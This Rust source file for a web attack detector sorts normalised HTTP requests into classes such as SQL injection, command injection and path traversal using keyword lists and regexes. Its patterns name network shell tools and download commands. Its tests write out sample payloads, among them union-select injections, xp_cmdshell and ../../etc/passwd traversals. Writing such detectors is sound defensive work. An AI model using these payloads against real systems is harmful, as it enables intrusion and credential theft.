//! The web attack classes and what gives each away in a normalised request. Cheap keyword
//! search (aho-corasick, one pass for all classes) picks the candidates; the regexes, which
//! tell an attack from a word that merely looks like one, run only on those.

use super::signs::*;
use aho_corasick::{AhoCorasick, AhoCorasickKind};
use regex::{Regex, RegexSet};

/// A web attack class. [`CLASSES`] gives the order they are tried in: the first that matches
/// wins.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum AttackClass {
    /// Shell commands smuggled into a parameter.
    CommandInjection,
    /// SQL smuggled into a parameter.
    SqlInjection,
    /// Paths that climb out of the web root.
    Traversal,
    /// Script smuggled into a page.
    CrossSiteScripting,
    /// A `${jndi:...}` lookup for Log4j (or `${script:...}` for Commons Text) to resolve.
    JndiLookup,
    /// A bash function definition for a CGI environment variable (Shellshock).
    Shellshock,
    /// PHP code, a PHP stream wrapper or a superglobal smuggled into a parameter.
    PhpInjection,
    /// Java classes, OGNL or a serialized object smuggled into a parameter.
    JavaInjection,
    /// An expression for a server-side template engine to evaluate.
    TemplateInjection,
    /// A parameter that points the server at a remote file or an internal service.
    RemoteFileInclusion,
    /// A request for a file no site serves on purpose: secrets, repositories, backups, dumps.
    SensitiveFile,
    /// A request for a path only a known exploit (or an open-proxy check) asks for.
    ExploitProbe,
}

/// How many classes there are.
const CLASS_COUNT: usize = AttackClass::ExploitProbe as usize + 1;

/// Where a class can be found: the request target only, or its headers too (User-Agent,
/// Referer). Paths and parameter values mean nothing in a header.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Reach {
    Target,
    Headers,
}

/// What part of a request a text is.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Part {
    /// The request target (path and query).
    Target,
    /// A header value: the User-Agent or the Referer.
    Header,
}

/// Every class with where it is looked for, its keywords (any one makes a candidate) and its
/// confirming patterns, in the order they are tried. Code that some engine runs comes first
/// (a Log4Shell payload is full of shell words), then SQL, paths and markup, then remote
/// inclusion (a script tag loading from a URL is cross-site scripting) and probes. The
/// last entry holds the SQL signs that scripts and markup share ([`WEAK_SQL`]): it has no
/// keywords of its own, and is tried only for requests the SQL keywords made candidates.
const CLASSES: [(AttackClass, Reach, &[&str], &[Group]); CLASS_COUNT + 2] = [
    (
        AttackClass::JndiLookup,
        Reach::Headers,
        &["${"],
        &[(LOOKUP_SIGNS, Some(is_a_dangerous_lookup))],
    ),
    (
        AttackClass::Shellshock,
        Reach::Headers,
        &["()"],
        &[(SHELLSHOCK_SIGNS, None)],
    ),
    (
        AttackClass::CommandInjection,
        Reach::Headers,
        COMMAND_KEYWORDS,
        &[(COMMAND_SIGNS, None), (BACKTICK_SIGNS, Some(backticks_run_a_command))],
    ),
    (
        AttackClass::CommandInjection,
        Reach::Target,
        COMMAND_KEYWORDS,
        &[(COMMAND_AFTER_A_SEPARATOR, None)],
    ),
    (
        AttackClass::TemplateInjection,
        Reach::Headers,
        &[
            "{{",
            "${",
            "#{",
            "*{",
            "<%",
            "{%",
            "<#",
            "freemarker",
            "#set",
            "__class__",
        ],
        &[(TEMPLATE_SIGNS, None)],
    ),
    (
        AttackClass::JavaInjection,
        Reach::Headers,
        &[
            "java",
            "org.apache",
            "com.opensymphony",
            "org.spring",
            "processbuilder",
            "getruntime",
            "classloader",
            "getclass",
            "forname",
            "scriptengine",
            "objectinputstream",
            "memberaccess",
            "ognl",
            "ro0ab",
            "aced0005",
        ],
        &[(JAVA_SIGNS, None)],
    ),
    (
        AttackClass::SqlInjection,
        Reach::Headers,
        &[
            "select",
            "union",
            "insert",
            "update",
            "delete",
            "drop",
            "sleep",
            "benchmark",
            "waitfor",
            "'",
            "\"",
            "--",
            "#",
            ";",
            " or ",
            " and ",
            "||",
            "&&",
            "exec",
            "cast(",
            "char(",
            "concat",
            "information_schema",
            "@@",
            "xp_",
            "load_file",
            "outfile",
            "extractvalue",
            "updatexml",
            "pg_",
            "dbms_",
            "having",
            "order by",
            "group by",
            "=",
            "like",
            "::",
            "when",
            "immediate",
            "if(",
            "if (",
            "json_",
            "jsonb_",
            "unistr",
        ],
        &[(SQL_SIGNS, None), (SELECT_STATEMENTS, Some(reads_as_a_query))],
    ),
    (
        AttackClass::PhpInjection,
        Reach::Headers,
        &["<?", "php", "://", "$_", "$globals", "$", "("],
        &[(PHP_SIGNS, None)],
    ),
    (
        AttackClass::Traversal,
        Reach::Target,
        &[
            "..",
            "etc",
            "boot.ini",
            "win.ini",
            "proc/",
            "c:/",
            "system32",
            "%00",
            "file:",
            "web-inf",
            "global.asa",
            "inetpub",
            "0x2e",
            "/./",
            "///",
        ],
        &[(TRAVERSAL_SIGNS, None)],
    ),
    (
        AttackClass::CrossSiteScripting,
        Reach::Headers,
        &[
            "<",
            "javascript:",
            "vbscript:",
            "on",
            "alert",
            "eval",
            "document.",
            "expression(",
            "&#",
            "prompt",
            "confirm",
            "formaction",
            "+adw-",
            "phnjcmlwd",
            "settimeout",
            "setinterval",
            "atob",
            "btoa",
            "function",
        ],
        &[(SCRIPT_SIGNS, None)],
    ),
    (
        AttackClass::RemoteFileInclusion,
        Reach::Target,
        &["://", "jar:", "xxpathxx", "@rfiurl"],
        &[(REMOTE_INCLUSION_SIGNS, None)],
    ),
    (
        AttackClass::SensitiveFile,
        Reach::Target,
        &[
            "/.",
            "wp-config",
            ".bak",
            ".old",
            ".orig",
            ".save",
            ".sw",
            "~",
            ".sql",
            ".db",
            ".mdb",
            ".dump",
            ".sqlite",
            "backup",
            "dump",
            ".zip",
            ".tar",
            ".tgz",
            ".gz",
            ".rar",
            ".7z",
            "server-",
            "phpinfo",
            "actuator",
            "debug.log",
            "debug_log",
            "debug-log",
            "error.log",
            "error_log",
            "error-log",
            "errors.log",
            "errors_log",
            "id_rsa",
            "id_dsa",
            "web.config",
            "htpasswd",
            "htaccess",
            "ws_ftp",
            "passwd.",
        ],
        &[
            (HIDDEN_FILE_SIGNS, Some(is_not_a_well_known_uri)),
            (SENSITIVE_FILE_SIGNS, None),
        ],
    ),
    (
        AttackClass::ExploitProbe,
        Reach::Target,
        EXPLOIT_PROBE_KEYWORDS,
        &[(EXPLOIT_PROBE_SIGNS, None)],
    ),
    (
        AttackClass::SqlInjection,
        Reach::Target,
        &[],
        &[(WEAK_SQL, None), (QUOTED_SQL, Some(breaks_out_of_a_string))],
    ),
];

/// The commands an injection runs: to look around, fetch a second stage, open a shell or
/// leave a mark. Unix and Windows, since a payload rarely knows which it will land on.
macro_rules! shell_commands {
    () => {
        r"(?:cat|ls|id|whoami|uname|wget|curl|nc|ncat|netcat|socat|bash|sh|zsh|ksh|csh|tcsh|dash|ash|busybox|ping|nslookup|dig|host|sleep|echo|printf|rm|chmod|chown|chgrp|touch|mkdir|cp|mv|ln|kill|killall|pkill|ps|env|export|crontab|useradd|passwd|sudo|su|nohup|xxd|awk|find|head|tail|grep|hostname|ifconfig|ipconfig|netstat|ss|lsof|pwd|python[0-9.]*|perl|php|ruby|node|lua|java|gcc|telnet|ssh|scp|nmap|tftp|ftp|net\s+(?:user|localgroup|view|share|use)|type|dir|ver|systeminfo|tasklist|taskkill|whoami\.exe|certutil|bitsadmin|mshta|rundll32|regsvr32|wmic|iwmi|iwr|irm|iex|reg|schtasks|bcdboot|cmd|powershell|pwsh|del|copy|move|ren)"
    };
}

/// What may follow a command word: an argument, another shell operator, or the end. A `=`
/// makes it a parameter name (`&id=5` is a query, not `id`).
macro_rules! after_a_command {
    () => {
        r"(?:[\s;|&<>`)'\x22$]|$)"
    };
}

/// Words that make a request a candidate for command injection.
const COMMAND_KEYWORDS: &[&str] = &[
    "iwr",
    "irm",
    "wget ",
    "curl ",
    ";",
    "|",
    "&",
    "`",
    "$(",
    "\n",
    "/bin/",
    "cmd",
    "powershell",
    "${ifs}",
    "$ifs",
    "system(",
    "exec",
    "ping",
    "#",
    "invoke-",
    "net.webclient",
    "download",
    "-encodedcommand",
    "frombase64string",
    "start-process",
    "for ",
    "if ",
    "?/",
    "*/",
    " -c",
    " -e",
    " -r",
    "busybox",
    "rem",
];

/// A shell operator, a newline or a substitution, then a command. A lone `&` separates
/// query parameters, so after one the command must have an argument too. Not in headers: a
/// User-Agent is a list of products split by `;` (`compatible; Nmap Scripting Engine`).
const COMMAND_AFTER_A_SEPARATOR: &[&str] = &[
    concat!(
        r"(?:[;|\n]|&&|&\s|\$\()\s*(?:/?(?:usr/)?s?bin/)?",
        shell_commands!(),
        after_a_command!()
    ),
    concat!(r"&", shell_commands!(), r"\s+[^\s&]"),
    r"[&|;]\s*rem(?:[\s;&|,]|$)",
];

/// Shell commands smuggled in by substitutions, shells and interpreters called by name,
/// and the calls that run them: signs that hold in a header as well as in a parameter.
const COMMAND_SIGNS: &[&str] = &[
    r"/(?:usr/)?s?bin/(?:id|cat|ls|whoami|uname|wget|curl|nc|busybox|python[0-9.]*|perl)\b",
    r"<!--\s*#\s*exec\b",
    r"\b(?:system|passthru|shell_exec|popen|proc_open|exec|pcntl_exec)\s*\(\s*['\x22]",
    r"\bping(?:\.exe)?\s+-[nic]\s+\d+",
    concat!(r"\$\(\s*(?:/?(?:usr/)?s?bin/)?", shell_commands!(), after_a_command!()),
    r"/bin/(?:ba|z|da|k|c|tc)?sh\b",
    r"\b(?:ba|z|da|k|c|tc)?sh\s+-c\s",
    r"\bbusybox\s+[a-z]",
    r"\b(?:python[0-9.]*|perl|ruby|php|node|lua)\s+-[ecr]\s",
    r"\bcmd(?:\.exe)?\s*/[ck]\b",
    r"\b(?:powershell|pwsh)(?:\.exe)?\s+-",
    r"\$\{ifs\}|\$ifs",
    // Shell arithmetic, which a probe echoes to see it evaluated (`$((20+23))`).
    r"\$\(\(\s*\d+\s*[-+*/%]\s*\d+\s*\)\)",
    // PowerShell fetching or running a second stage.
    r"\b(?:invoke-(?:webrequest|expression|restmethod)|start-process)\b|\bnew-object\s+(?:system\.)?net\.webclient\b|\.download(?:string|file|data)\s*\(|-encodedcommand\b|\bfrombase64string\s*\(",
    r"\b(?:iwr|irm|wget|curl)\s+(?:-[\w-]+\s+)*['\x22(]?(?:https?|ftp)://",
    // Windows batch: `for %i in (...) do`, `if %x% equ 1 echo`.
    r"\bfor\s+(?:/[a-z](?:\s+\x22[^\x22]*\x22)?\s+)*%{1,2}[^\s]\s+in\s*\(",
    r"\bif\s+(?:/i\s+)?(?:not\s+)?(?:defined\s+[%\w]+\s+\S|exist\s+\S|errorlevel\s+\d|[^\s=(]+\s*==[^=]|\(?[^\s=]+\s+(?:equ|neq|lss|leq|gtr|geq)\s)",
    // Wildcards standing in for a path a filter would know (`/???/c?t /???/p??s??`).
    r"(?:^|[\s;|&=`(])/[a-z?*]{0,4}[?*][a-z?*]*/[a-z?*]*[?*]",
    // A command, then `#` to comment out the rest of the command line it lands in.
    r"(?:^|[\s'\x22=;&|`(])(?:sleep\s+\d+|uname(?:\s+-[a-z]+)?|(?:rm|del)\s+(?:-[a-z]+\s+)?[\w./-]+|id|whoami|ls(?:\s+-[a-z]+)?|cat\s+[\w./-]+)(?:\s*>\s*[\w./-]+)?\s*#\s*$",
];

/// A command in backticks, which the shell runs and replaces by its output. Markdown quotes
/// words the same way ([`backticks_run_a_command`]).
const BACKTICK_SIGNS: &[&str] = &[concat!(
    r"`\s*(?:/?(?:usr/)?s?bin/)?",
    shell_commands!(),
    r"(?:[\s;|&<>)'\x22][^`]*)?`"
)];

/// Whether the backticks at `at` would run their command rather than quote a word in prose:
/// they open a parameter value or touch the text before them (`host=`id``, `1.1.1.1`id``),
/// or the command has an argument that reads as one (`` `cat /etc/passwd` ``, `` `ls -la` ``).
/// "run `ls` first" is a sentence.
fn backticks_run_a_command(text: &str, at: usize) -> bool {
    let (before, rest) = text.split_at_checked(at).unwrap_or((text, ""));
    let opens_the_value =
        before.is_empty() || before.ends_with(['=', '?', '&']) || !before.ends_with(char::is_whitespace);
    let quoted = rest.get(1..).and_then(|inner| inner.split('`').next()).unwrap_or("");
    let has_an_argument = quoted
        .split_whitespace()
        .skip(1)
        .any(|argument| argument.starts_with(['-', '/', '$', '.', '~']) || argument.contains('/'));
    opens_the_value || has_an_argument
}

/// A `select` statement, as long as it does not stop on a clause still waiting for its
/// operand ([`reads_as_a_query`]).
const SELECT_STATEMENTS: &[&str] = &[
    r"\bselect\b.+?\bfrom\b",
    r"\bselect\s+(?:[@(*'\d]|[\w.]+\s*(?:[(=,]|\b(?:where|from|union|into|if|case)\b)|(?:union|if|case|distinct|all|top)\b)",
];

/// SQL that no search box or form field holds.
const SQL_SIGNS: &[&str] = &[
    r"\bunion\b(?:\s+(?:all|distinct))?\s*\(?\s*select\b",
    r#";\s*(?:(?:drop|insert|update|delete|select|shutdown|declare|create|alter|truncate|waitfor)\b|exec(?:ute)?\s*(?:[(@]|\b(?:master|xp_|sp_)|[\w.]+\s*[(@'"\d])|set\s+@?[\w.]+\s*=)"#,
    r"\b(?:sleep|benchmark|pg_sleep|dbms_pipe\.receive_message|randomblob)\s*\(",
    r"\bwaitfor\s+(?:delay|time)\b",
    r"\b(?:information_schema|sysobjects|syscolumns|mysql\.user|pg_catalog|sqlite_master|all_tables)\b",
    r"@@(?:version|datadir|hostname|basedir|servername)",
    r"\b(?:xp_cmdshell|sp_executesql|sp_oacreate|load_file|utl_http|utl_inaddr)\b",
    r"\binto\s+(?:out|dump)file\b",
    r"\b(?:extractvalue|updatexml|concat_ws|group_concat|make_set|elt|exp)\s*\(",
    r"\b(?:exec|execute)\s*(?:\(|\s+(?:master|xp_|sp_))",
    r"\b(?:cast|convert)\s*\(.+?\b(?:as|using)\b",
    r"\b(?:char|chr|nchar|ascii|substring|substr|mid|ord|hex|unhex|version|database|user|schema)\s*\(\s*(?:\d|select|@@|\))",
    r"\b(?:order|group)\s+by\s+\d+(?:\s*,\s*\d+)*\s*(?:--|#|$|\)|')",
    r"\bhaving\s+\d+\s*=\s*\d+",
    r"\binsert\s+into\b",
    r"\bdelete\s+from\b",
    r"\bdrop\s+(?:table|database|schema|view|procedure|function)\b",
    r"\bupdate\s+\w+\s+set\b",
    r"\bnull\s*,\s*null\b",
    // PostgreSQL: a cast or a JSON operator on a string the request closed.
    r#"['")]\s*::\s*(?:jsonb?|int|integer|text|varchar|regclass|bytea|numeric)\b"#,
    r#"['"]\s*(?:\?[|&]?|@>|<@|#>>?|->>?|#-|@\?|@@)\s*(?:['"]|array\s*\[)"#,
    r"\b(?:json_extract|json_build_object|jsonb_pretty|unistr)\s*\(",
    r"\bcase\s+when\b.{1,100}?\bthen\b",
    r"\bhaving\s+(?:count|sum|min|max|avg)\s*\(",
    r"\bexecute\s+immediate\b",
    r"\bpg_sleep\b",
    r"\bif\s*\(\s*\d+\s*[=<>]",
    r"\bunion\s+all\b",
];

/// Paths climbing out of the web root, and the files they are after.
const TRAVERSAL_SIGNS: &[&str] = &[
    // Right after a quote, `../` is a relative link in markup (`<a href="../">`).
    r#"(?:^|[^'"])\.{2,}/"#,
    // Tomcat reads `..;/` as `../` where a proxy in front sees a path parameter (F5 BIG-IP).
    r"/\.\.;/",
    // A path ending in `..` (the parent); three dots at the end are an ellipsis.
    r"(?:^|[/=])(?:\.{2,}\{|\.\.$)",
    // Scanners (DotDotPwn and friends) spell the dots and slashes out in hex.
    r"(?:\.\.|0x2e0x2e)(?:0x2f|0x5c)",
    r"0x2e0x2e",
    r"(?:/\.){2,}/",
    // No file or directory name is longer than 255 bytes: a longer one ending in dots
    // is there to push the real path past a length limit that truncates it.
    r"[^/?&=\s]{256,}\.{2,}[^.&\s]",
    // An absolute path padded with slashes, to slip past a check for a leading `/`.
    r"(?:^|=)/{3,}[^/\s]",
    // Backslashes lost on the way (d:\inetpub\wwwroot) leave the names run together.
    r"\bweb-inf",
    r"global\.asa\b",
    r"\binetpub",
    r"\bfile:/+[a-z]:",
    r"\betc/?(?:passwd|shadow)\b",
    r"/etc/(?:passwd|shadow|group|hosts|issue|motd|sudoers|crontab|ssh/)",
    r"(?:boot|win|system)\.ini\b",
    r"/proc/(?:self|\d+)/(?:environ|cmdline|fd|maps|status|root|cwd)",
    r"/proc/(?:version|cpuinfo|meminfo|interrupts|mounts|net/(?:arp|tcp|route))\b",
    r"\bc:/(?:windows|winnt|inetpub|boot\.ini)",
    r"\bwindows/system32\b",
    r"\x{0}|%00",
    // Not an unexpanded `file://$file` in a page's link.
    r"\bfile:/{2,}[^$\s]",
];

/// Markup and script a page would run.
const SCRIPT_SIGNS: &[&str] = &[
    r"<\s*/?\s*(?:script|iframe|frame|frameset|object|embed|applet|svg|math|img|image|body|video|audio|input|form|isindex|link|meta|style|base|marquee|details|xss)\b",
    // A link that leaves the site or runs script, or one with a handler; a relative
    // link is ordinary markup.
    r#"<\s*a\b[^>]*?(?:\bhref\s*=\s*['"]?\s*(?:[^/'".#?\s>]|//)|[\s/"']on[a-z]+\b)"#,
    r"\bon(?:error|load|mouseover|mouseout|mouseenter|mouseleave|mousemove|mousedown|mouseup|click|dblclick|focus|blur|change|submit|keydown|keyup|keypress|toggle|start|finish|begin|end|animationstart|pointerover|wheel|scroll|resize|unload|beforeunload|hashchange|message|input|select|copy|paste|drag|drop)\s*=",
    r"(?:javascript|vbscript|livescript)\s*:",
    r"\b(?:alert|confirm|prompt|eval)\s*(?:\(|`)",
    r"\bdocument\s*\.\s*(?:cookie|domain|write|location)",
    r"\bexpression\s*\(",
    r"&#x?0*(?:3c|60|58|106|74);?",
    r"\bdata\s*:\s*text/html",
    r"<!--|-->|<!\[cdata\[",
    // Any handler, even one no browser has yet, as an attribute after a space or a quote.
    r#"[\s"'/]on[a-z]{3,}\s*=\s*['"\w(]"#,
    r#"[\s"'/]formaction\s*="#,
    r"<\s*[a-z]+\s*:\s*script\b",
    // UTF-7 `<` (`+ADw-`), for pages a browser can be made to read as UTF-7.
    r"\+adw-",
    // `<script` in base64, for a page that decodes a parameter into itself.
    r"\bphnjcmlwd",
    r"\b(?:settimeout|setinterval|atob|btoa)\s*\(|\bnew\s+function\s*\(",
];

/// An SQL comment that cuts the query off: nothing but a filler character (`-- -a`) after it
/// in the parameter value.
macro_rules! comment_ending_the_value {
    () => {
        r"(?:--|#)[^&\w]*(?:\w[^&\w]*)?(?:&|$)"
    };
}

/// SQL signs that scripts and markup share (a quote before an operator, a tautology): tried
/// after every other class, so a cross-site scripting payload full of quotes is reported as
/// what it is, and SQL injection still catches them when nothing else does. A comment counts
/// only where it cuts the query off, with at most a filler character after it in the value
/// (`admin'--`, `1)-- -a`; `7" #2 circular needle` is a product name). Numbers joined by
/// `or`/`and` count only when the second is a truth value (`395 and 0`, not `1950 or 1960`).
const WEAK_SQL: &[&str] = &[
    concat!(
        r#"['"`]\s*(?:\|\||&&|"#,
        comment_ending_the_value!(),
        r#"|=\s*['"\d(]|\|)"#
    ),
    concat!(
        r"\)\s*(?:\b(?:or|and|xor|union|order|group|having|into|procedure|waitfor)\b|;|",
        comment_ending_the_value!(),
        ")"
    ),
    // Only the operators prose does not use: "and that is", "or those like it" are English.
    r#"\b(?:or|and|xor)\b\s+[\w'"(]+\s*(?:=|<>|!=|<|>|\blike\s+['"%]|\bis\s+(?:not\s+)?null\b|\bbetween\s+['"\d]|\bin\s*\()"#,
    r"\b(?:or|and)\b\s+(?:not\s+)?(?:true|false)\b",
    r"(?:^|=)\s*-?\d+\s+(?:or|and)\s+-?[01]\s*(?:&|$)",
    concat!(
        r"(?:^|=)\s*[-+]?\d+(?:\s*[-+*/]\s*\d+)*\s*\)?\s*",
        comment_ending_the_value!()
    ),
    r#"^\s*['"]\s*$"#,
    // A quote before a number that starts the value: a probe for a numeric parameter.
    r"(?:^|=)\s*'\d+\s*(?:&|$)",
    // A quote closing an id (`id=42'`, `sid='`): a probe for an error page.
    r"=\s*(?:[\w-]*\d[\w-]*)?'\s*(?:&|$)",
];

/// A quote, then an SQL operator or clause with something SQL after it: `' OR 1`,
/// `'or'1'='1`, `' AND col LIKE '`, `' GROUP BY 2`. Prose in quotes reads the same way
/// (`"wood" and "sign"`, `dancin' like a robot`), so the operator must be followed by an
/// operand that does something in SQL, and the quote must be one the request opens rather
/// than closes ([`breaks_out_of_a_string`]). The operand is a bracket, a variable, a sign
/// before an operand, a name with an operator after it, a number that does not run into a
/// quote or a letter (`' and 60's` is not SQL), or a string that holds a digit, is compared,
/// or is a probe of at most two characters (`' or '1`, `' or 'a'='a`, `a' or 'b`); a string
/// that is neither is always false and is how phrases read (`" and "disney:`).
const QUOTED_SQL: &[&str] = &[
    r#"['"`]\s*\b(?:or|and|xor|div|like|rlike|regexp)\b\s*(?:binary\s+)?(?:['"`](?:[^'"`&]*\d|\s*[^'"`&\s]{0,2}\s*(?:&|$)|[^'"`&]*['"`]\s*(?:[=<>!]|\b(?:like|rlike|regexp|is|in|between|or|and|xor)\b|--|#|\|\||&&|$))|(?:0x[0-9a-f]+|\d+(?:\.\d+)?)(?:[^\w'"`.]|$)|[(@!~]|[+-]\s*(?:['"`\d(@]|[a-z_]\w*\s*[(=<>!])|[\w.@]+\s*(?:[=<>!^*&|+/%(~-]|\b(?:like|rlike|regexp|is|in|between|xor|div|not)\b))"#,
    r#"['"`]\s*(?:\bunion\b\s*(?:/\*|\(|!|\b(?:all|distinct|select)\b)|\b(?:group|order)\s+by\b|\bhaving\b|\blimit\s+\d|\binto\s+(?:out|dump)file\b|\bprocedure\s+analyse\b|\bwaitfor\s+delay\b|\+\s*(?:['"`\d(@]|[a-z_]\w*\s*\()|;\s*(?:[a-z_]\w*\s*[(:=]|\b(?:if|while|begin|declare|goto|exec|execute|shutdown|select|drop|insert|update|delete|waitfor|set|create|alter|truncate|union)\b))"#,
];

/// Whether the quote at `at` leaves the text of its parameter value inside an SQL string
/// literal, as an injection's first quote does: the value before it holds an even number of
/// the same quote mark. After an odd number it closes a phrase the request itself quoted
/// (`q="sweater dress" and "christmas"`), which is a search, not an escape.
fn breaks_out_of_a_string(text: &str, at: usize) -> bool {
    let Some(&quote) = text.as_bytes().get(at) else {
        return false;
    };
    let (before, _) = parameter_value(text, at);
    before.bytes().filter(|&byte| byte == quote).count() % 2 == 0
}

/// The parameter value (or the whole text, if it has none) around `at`, split there.
fn parameter_value(text: &str, at: usize) -> (&str, &str) {
    let (before, after) = text.split_at_checked(at).unwrap_or((text, ""));
    let start = before.rfind(['&', '?']).map_or(0, |separator| separator + 1);
    let end = after.find('&').unwrap_or(after.len());
    (&before[start..], &after[..end])
}

/// Whether the `select` at `at` reads as a query rather than a sentence about one. A value
/// that is nothing but a plain word selected from a plain table and stops on a clause still
/// waiting for its operand (`select x from y where`) describes SQL; a number, a function, a
/// list, a subquery or a finished clause (`select 1 from foo where`, `(select pass from
/// users)`) is SQL someone means to run.
fn reads_as_a_query(text: &str, at: usize) -> bool {
    let (before, value) = parameter_value(text, at);
    let before = before.trim_end();
    let starts_the_value = before.is_empty()
        || before
            .strip_suffix('=')
            .is_some_and(|name| name.chars().all(|ch| ch.is_alphanumeric() || ch == '_'));
    let plain_word =
        |word: Option<&str>| word.is_some_and(|word| word.chars().all(|ch| ch.is_alphabetic() || ch == '_'));
    let mut words = value.split_whitespace();
    let reads_as_a_sentence = starts_the_value
        && words.next() == Some("select")
        && plain_word(words.next())
        && words.next() == Some("from")
        && plain_word(words.next())
        && matches!(words.next(), Some("where" | "having" | "join" | "on"))
        && words.next().is_none();
    !reads_as_a_sentence
}

/// All classes' matchers, built once.
pub struct Patterns {
    keywords: AhoCorasick,
    /// For each keyword, the class it belongs to and whether it makes a header a candidate.
    keyword_class: Vec<(AttackClass, bool)>,
    /// The keywords that make a header a candidate, matched on the raw header, any case.
    header_keywords: AhoCorasick,
    confirm: Vec<Confirming>,
}

/// Keywords too common in a header to make it a candidate: every User-Agent has `;`, `(`
/// and `like Gecko`, every Referer `://`, `=` and `&`. The header signs all have a keyword
/// of their own besides these.
const COMMON_IN_HEADERS: &[&str] = &[
    ";", "|", "&", "(", "on", "=", "'", "\"", "#", "--", " or ", " and ", "||", "&&", "like", "\n", "$", "://", "?/",
    " -c", " -e", " -r", "for ", "if ", "if (", "java", "rem", "when", "::", "json_", "function", "confirm",
];

/// What a match must also satisfy, given the text and where the match starts.
type Guard = fn(&str, usize) -> bool;

/// Patterns, with the guard their matches must pass if any.
type Group = (&'static [&'static str], Option<Guard>);

/// One class's confirming patterns: all of them tried in one pass, and the first that
/// matched run again alone for the text it matched (only attacks pay for that).
struct Confirming {
    class: AttackClass,
    reach: Reach,
    any: RegexSet,
    each: Vec<(Regex, Option<Guard>)>,
}

impl Confirming {
    /// `groups` in order of preference, each a list of patterns with the guard its matches
    /// must pass, if any.
    fn new(class: AttackClass, reach: Reach, groups: &[Group]) -> Self {
        // Our own constant patterns: a failure to compile is a bug caught by the tests.
        let each: Vec<(Regex, Option<Guard>)> = groups
            .iter()
            .flat_map(|(patterns, guard)| {
                patterns
                    .iter()
                    .filter_map(move |pattern| Some((Regex::new(pattern).ok()?, *guard)))
            })
            .collect();
        let any = RegexSet::new(each.iter().map(|(regex, _)| regex.as_str())).unwrap_or_else(|_| RegexSet::empty());
        Confirming {
            class,
            reach,
            any,
            each,
        }
    }

    /// The text the first matching pattern matched (the first match its guard lets through).
    fn first_match<'t>(&self, text: &'t str) -> Option<&'t str> {
        self.any
            .matches(text)
            .into_iter()
            .filter_map(|index| self.each.get(index))
            .find_map(|(regex, guard)| match guard {
                None => regex.find(text),
                Some(guard) => regex.find_iter(text).find(|found| guard(text, found.start())),
            })
            .map(|found| found.as_str())
    }
}

impl Default for Patterns {
    fn default() -> Self {
        Self::new()
    }
}

impl Patterns {
    /// Compiles every pattern.
    pub fn new() -> Self {
        let mut keywords: Vec<&str> = Vec::new();
        let mut keyword_class: Vec<(AttackClass, bool)> = Vec::new();
        let mut confirm = Vec::new();
        for (class, reach, words, groups) in CLASSES {
            for word in words {
                let in_headers = reach == Reach::Headers && !COMMON_IN_HEADERS.contains(word);
                match keywords
                    .iter()
                    .zip(keyword_class.iter_mut())
                    .find(|(known, (known_class, _))| *known == word && *known_class == class)
                {
                    Some((_, (_, counted))) => *counted |= in_headers,
                    None => {
                        keywords.push(word);
                        keyword_class.push((class, in_headers));
                    }
                }
            }
            confirm.push(Confirming::new(class, reach, groups));
        }
        let header_keywords: Vec<&str> = keywords
            .iter()
            .zip(&keyword_class)
            .filter(|(_, (_, in_headers))| *in_headers)
            .map(|(word, _)| *word)
            .collect();
        Patterns {
            // A few dozen constant keywords always build.
            // A DFA: a few hundred keywords make a small one, and every request runs it.
            keywords: AhoCorasick::builder()
                .kind(Some(AhoCorasickKind::DFA))
                .build(&keywords)
                .expect("constant keywords build"),
            keyword_class,
            header_keywords: AhoCorasick::builder()
                .ascii_case_insensitive(true)
                .build(&header_keywords)
                .expect("constant keywords build"),
            confirm,
        }
    }

    /// The first class whose patterns match `normalized`, the normalised request target,
    /// with the matched text.
    pub fn classify<'t>(&self, normalized: &'t str) -> Option<(AttackClass, &'t str)> {
        self.classify_part(normalized, Part::Target)
    }

    /// The first class whose patterns match `normalized`, a normalised part of a request:
    /// a header is tried only for the classes that can ride in one.
    pub fn classify_part<'t>(&self, normalized: &'t str, part: Part) -> Option<(AttackClass, &'t str)> {
        let mut candidates = [false; CLASS_COUNT];
        for found in self.keywords.find_overlapping_iter(normalized) {
            if let Some(&(class, in_headers)) = self.keyword_class.get(found.pattern().as_usize()) {
                candidates[class as usize] |= part == Part::Target || in_headers;
            }
        }
        self.confirm
            .iter()
            .filter(|confirming| candidates[confirming.class as usize])
            .filter(|confirming| part == Part::Target || confirming.reach == Reach::Headers)
            .find_map(|confirming| {
                confirming
                    .first_match(normalized)
                    .map(|found| (confirming.class, found))
            })
    }

    /// Whether a raw header value (a User-Agent, a Referer) is worth normalising and
    /// classifying: it holds a keyword that counts in headers, or an escape that may hide one.
    /// Ordinary agents and referrers are turned away here, without an allocation.
    pub fn header_may_carry_an_attack(&self, raw: &str) -> bool {
        raw.contains('%') || raw.contains("\\x") || self.header_keywords.is_match(raw)
    }

    /// How many confirming patterns compiled (every one should).
    #[cfg(test)]
    fn compiled(&self) -> usize {
        self.confirm
            .iter()
            .map(|confirming| confirming.each.len().min(confirming.any.len()))
            .sum()
    }
}

#[cfg(test)]
mod tests {
    use super::super::normalize::normalize;
    use super::*;

    /// One compiled set for every test case: compiling them is most of a case's cost.
    fn patterns() -> &'static Patterns {
        static PATTERNS: std::sync::LazyLock<Patterns> = std::sync::LazyLock::new(Patterns::new);
        &PATTERNS
    }

    fn class_of(raw: &str) -> Option<AttackClass> {
        let mut normalized = String::new();
        normalize(raw, &mut normalized);
        patterns().classify(&normalized).map(|(class, _)| class)
    }

    #[test]
    fn every_pattern_compiles() {
        let total: usize = CLASSES
            .iter()
            .flat_map(|(_, _, _, groups)| groups.iter())
            .map(|(patterns, _)| patterns.len())
            .sum();
        assert_eq!(patterns().compiled(), total);
    }

    #[test]
    fn the_patterns_the_original_named_are_caught() {
        use AttackClass::*;
        // ORIGIN.md: a floor, not a ceiling.
        for (raw, class) in [
            ("/q?id=1 union select user,pass from users", SqlInjection),
            ("/login?user=admin' or 1=1--", SqlInjection),
            ("/q?x=1;drop table users", SqlInjection),
            ("/q?x=exec(master..xp_cmdshell 'dir')", SqlInjection),
            ("/q?x=cast(1 as int)", SqlInjection),
            ("/login?user=admin'--", SqlInjection),
            ("/q?id=1%20UnIoN%20SeLeCt%201,2", SqlInjection),
            ("/download?file=../../../../etc/passwd", Traversal),
            ("/download?file=..\\..\\boot.ini", Traversal),
            ("/f?p=/etc/shadow", Traversal),
            ("/f?p=/proc/self/environ", Traversal),
            ("/f?p=0x2e0x2e0x2f0x2e0x2e0x2fetc0x2fpasswd", Traversal),
            ("/f?p=..0x5c..0x5cboot.ini", Traversal),
            ("/f?p=/.//././/./etc", Traversal),
